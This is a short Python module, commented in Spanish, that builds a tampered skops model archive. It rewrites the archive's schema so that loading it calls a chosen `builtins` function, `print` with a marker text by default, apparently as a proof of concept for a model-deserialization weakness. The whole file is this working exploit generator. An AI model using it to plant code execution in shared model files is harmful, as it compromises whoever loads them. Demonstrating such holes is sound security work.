"""Un archivo de skops con una sorpresa: quien lo carga sin mirar llama a una función."""

import json
import zipfile

FIRMA = "este texto lo imprimió el archivo"
ESQUEMA = "schema.json"


def esconde_una_llamada(bueno, destino, nombre="print", argumentos=(FIRMA,)):
    """Copia un archivo de skops y pone en su `n_jobs` una llamada a una función de Python.

    Al construir ese nodo, skops la llama. Con `print` es inofensivo y se nota.

    Parámetros
    ----------
    bueno, destino : Path
        El primero es de un modelo con `n_jobs`, como un bosque.
    nombre : str
        La función, que está en `builtins`.
    argumentos : tuple de str
    """
    textos = [_nodo("str", "JsonNode", is_json=True, content=json.dumps(a)) for a in argumentos]
    tupla = _nodo("tuple", "TupleNode", content=textos)
    with zipfile.ZipFile(bueno) as origen, zipfile.ZipFile(destino, "w") as copia:
        esquema = json.loads(origen.read(ESQUEMA))
        llamada = _nodo(nombre, "ConstructorFromReduceNode", content=tupla)
        esquema["content"]["content"]["n_jobs"] = llamada
        copia.writestr(ESQUEMA, json.dumps(esquema))
        for otro in set(origen.namelist()) - {ESQUEMA}:
            copia.writestr(otro, origen.read(otro))


def _nodo(clase, cargador, **resto):
    return {"__module__": "builtins", "__class__": clase, "__loader__": cargador} | resto
